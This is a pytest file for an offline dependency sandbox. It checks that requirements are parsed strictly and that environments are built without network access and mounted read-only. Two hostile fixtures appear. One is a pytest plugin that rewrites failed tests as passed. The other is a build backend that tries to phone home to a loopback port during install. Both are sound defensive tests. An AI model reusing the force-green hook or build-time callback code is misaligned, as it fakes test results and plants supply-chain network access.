"""Project environments: keyed, immutable, built offline inside the sandbox."""

from __future__ import annotations

import os
import socket
import stat
import sys
import textwrap
from pathlib import Path

import pytest

from activities.project_tests import run_project_tests
from activities.sandbox import (
    base_env,
    declared_requirements,
    ensure_project_env,
    run_sandboxed,
)
from tests.support.sandbox_support import make_project, make_wheel, require_contained

pytest_plugins = ["tests.support.sandbox_fixtures"]
pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux-only")

FORCE_GREEN = """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if report.failed:
        report.outcome = "passed"
"""


# --- what a checkout declares ------------------------------------------------------------


def test_declared_requirements_are_normalised(tmp_path: Path) -> None:
    (tmp_path / "wheels").mkdir()
    make_wheel(tmp_path / "wheels", "localpkg", "1.0", {"localpkg/__init__.py": ""})
    (tmp_path / "extra.txt").write_text("httpx  # client\n")
    (tmp_path / "requirements.txt").write_text(
        "# runtime\nfastapi>=0.100\n\n-r extra.txt\n--index-url https://example.invalid/simple\n"
        "./wheels/localpkg-1.0-py3-none-any.whl\n-e .\npydantic \\\n  >=2\n"
    )
    (tmp_path / "pyproject.toml").write_text('[project]\nname="x"\ndependencies=["PyYAML>=6"]\n')
    declared = declared_requirements(tmp_path)
    assert [r for r in declared.requirements if not r.startswith("./")] == [
        "PyYAML>=6", "fastapi>=0.100", "httpx", "pydantic>=2",
    ]  # fmt: skip
    assert any(
        r.startswith("./wheels/localpkg-1.0-py3-none-any.whl (sha256:")
        for r in declared.requirements
    )
    assert declared.needs_pip == ["./wheels/localpkg-1.0-py3-none-any.whl"]  # the rest: the base
    assert any("ignored --index-url" in n for n in declared.notes)
    assert any("the project itself" in n for n in declared.notes)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("../outside.whl\n", "outside the project"),
        ("pkg @ https://example.invalid/pkg.whl\n", "URL requirement"),
        ("--upgrade-strategy eager\n", "unsupported option"),
        ("not a requirement!!\n", "not a requirement"),
    ],
)
def test_unreadable_declarations_are_clear_errors(tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "requirements.txt").write_text(text)
    with pytest.raises(ValueError, match=message):
        declared_requirements(tmp_path)


async def test_invalid_pyproject_is_a_clear_failure(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("[project\nname = 'x'\n")
    env = await ensure_project_env(tmp_path)
    assert not env.ok and "pyproject.toml is not valid TOML" in env.message


# --- environments ------------------------------------------------------------------------


async def test_requirements_the_base_satisfies_share_the_base_environment(tmp_path: Path) -> None:
    a = make_project(tmp_path / "a", requirements="fastapi>=0.100\nhttpx\npytest\n")
    b = make_project(tmp_path / "b", requirements="pytest\nfastapi\n")
    env_a, env_b = await ensure_project_env(a), await ensure_project_env(b)
    assert env_a.ok and env_b.ok, (env_a, env_b)
    assert env_a.env == env_b.env == base_env()
    assert env_a.duration_s < 1.0
    assert "satisfied by the base environment" in env_a.message


async def test_local_wheel_is_built_once_offline_and_frozen(tmp_path: Path) -> None:
    project = make_project(
        tmp_path / "p", requirements="fastapi\n./wheels/greet-1.0-py3-none-any.whl\n"
    )
    make_wheel(project / "wheels", "greet", "1.0", {"greet/__init__.py": "WORD = 'hello'\n"})
    first = await ensure_project_env(project)
    assert first.ok, first.log
    assert first.env is not None and first.env.installed == ["greet==1.0"]
    again = await ensure_project_env(project)
    assert again.reused and again.env == first.env and again.duration_s < 1.0
    # Read-only and root's on the worker; read-only mounted inside.
    site = next(first.env.path.glob("lib/python*/site-packages"))
    module = site / "greet" / "__init__.py"
    assert module.stat().st_uid == os.geteuid()
    assert not module.stat().st_mode & (stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH)
    result = await run_sandboxed(
        ["python", "-c", "import greet; print(greet.WORD); open(greet.__file__, 'a')"],
        source=project,
        project_env=first.env,
    )
    assert "hello" in result.output and result.exit_code != 0
    assert "Read-only file system" in result.output or "Permission denied" in result.output


async def test_missing_requirement_fails_offline_with_its_name(tmp_path: Path) -> None:
    project = make_project(tmp_path / "p", requirements="backforge-no-such-package-xyz==0.0.1\n")
    env = await ensure_project_env(project)
    assert not env.ok
    assert env.missing == ["backforge-no-such-package-xyz==0.0.1"]
    assert env.message.startswith("dependencies not available offline: backforge-no-such-package")
    assert "BACKFORGE_WHEELHOUSE" in env.message
    assert env.log.count("$ pip install") == 1  # never retried online


async def test_wheelhouse_provides_packages_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    house = tmp_path / "wheelhouse"
    make_wheel(house, "shelfpkg", "2.0", {"shelfpkg/__init__.py": "N = 2\n"})
    monkeypatch.setenv("BACKFORGE_WHEELHOUSE", str(house))
    project = make_project(tmp_path / "p", requirements="fastapi\nshelfpkg==2.0\n")
    env = await ensure_project_env(project)
    assert env.ok, env.log
    assert env.env is not None and env.env.installed == ["shelfpkg==2.0"]


async def test_case2_dependency_build_code_has_no_network(tmp_path: Path) -> None:
    """Case 2: an in-tree PEP 517 backend tries the host's loopback while installing."""
    require_contained()
    project = make_project(tmp_path / "p", requirements="./evilpkg\n")
    pkg = project / "evilpkg"
    (pkg / "backend").mkdir(parents=True)
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        (pkg / "pyproject.toml").write_text(
            '[build-system]\nrequires = []\nbuild-backend = "evil_backend"\nbackend-path = ["backend"]\n'
        )
        (pkg / "backend" / "evil_backend.py").write_text(
            textwrap.dedent(
                f"""
                import socket

                def _phone_home():
                    try:
                        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"x")
                        print("PWNED: reached the host")
                    except OSError as err:
                        print("backend could not connect:", err)

                def get_requires_for_build_wheel(config_settings=None):
                    _phone_home()
                    return []

                def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                    _phone_home()
                    raise RuntimeError("no wheel today")
                """
            )
        )
        env = await ensure_project_env(project)
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected
    assert not env.ok
    assert "PWNED" not in env.log
    assert "backend could not connect" in env.log  # the build code did run, confined
    assert env.log.count("$ pip install") == 1  # no second, online pass


async def test_case3_a_plugin_from_a_removed_requirement_is_gone(tmp_path: Path) -> None:
    """Case 3: a local wheel installs a force-green pytest plugin, then is removed."""
    project = make_project(tmp_path / "p", tests=1)
    (project / "tests" / "test_broken.py").write_text("def test_broken():\n    assert False\n")
    make_wheel(
        project / "wheels", "greenit", "1.0", {"greenit.py": FORCE_GREEN},
        entry_points="[pytest11]\ngreenit = greenit\n",
    )  # fmt: skip
    (project / "requirements.txt").write_text("fastapi\n./wheels/greenit-1.0-py3-none-any.whl\n")
    hijacked = await run_project_tests(project, [])
    assert hijacked.env is not None and hijacked.env.env is not None
    assert hijacked.env.env.installed == ["greenit==1.0"]
    assert hijacked.verdict == "FAIL"  # the raw outcome gives it away even while installed
    assert any("reported as passed" in p for p in hijacked.problems), hijacked.problems
    (project / "requirements.txt").write_text("fastapi\n")  # removed from the tree
    after = await run_project_tests(project, [])
    assert after.env is not None and after.env.env is not None
    assert after.env.env.installed == [] and after.env.env.key != hijacked.env.env.key
    assert after.verdict == "FAIL" and after.report.failed == 1 and after.problems == []
    check = await run_sandboxed(
        ["python", "-c", "import importlib.metadata as m; print(sorted(e.name for e in m.entry_points(group='pytest11')))"],
        source=project,
        project_env=after.env.env,
    )  # fmt: skip
    assert "greenit" not in check.output and check.exit_code == 0, check.output
